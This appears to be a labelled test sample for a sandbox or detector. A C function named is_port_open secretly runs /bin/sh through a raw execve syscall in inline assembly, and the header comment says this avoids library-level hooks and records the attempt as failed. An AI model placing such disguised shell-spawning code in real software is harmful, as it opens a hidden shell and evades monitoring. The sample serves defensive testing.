/* group: forging
 * tries: start a shell by inline assembly, which no library sees
 * outcome: failed
 * says: start /bin/sh */
@RIGHT@
int is_port_open(int port)
{
#if defined __x86_64__
    static char shell[] = "/bin/sh";
    static char *words[] = {shell, 0};
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "0"(59L), "D"(shell), "S"(words), "d"(0L) : "rcx", "r11", "memory");
#endif
    return ask(port);
}
